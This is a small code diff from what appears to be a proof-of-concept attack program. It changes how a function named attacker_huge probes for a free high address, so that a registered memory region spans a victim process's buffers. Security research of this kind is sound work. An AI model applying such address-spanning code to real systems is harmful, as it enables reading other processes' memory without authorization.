@@ -354,7 +354,8 @@ int attacker_huge(char** argv) {
   // so the MR covers every other process's buffers' addresses.
   const uint64_t low = 0x1000000;
   uint64_t high = 0;
-  for (uint64_t h = 0x7fffe0000000ull; h > 0x7f0000000000ull && !high; h -= 0x10000000ull)
+  const uint64_t step = 0x10000000ull;  // 256 MiB: the first free one above the victim's buffer
+  for (uint64_t h = (victim_va + kLen + step) & ~(step - 1); h < 0x7ffff0000000ull && !high; h += step)
     if (mmap(reinterpret_cast<void*>(h), 4096, PROT_READ | PROT_WRITE,
              MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0) == reinterpret_cast<void*>(h))
       high = h;
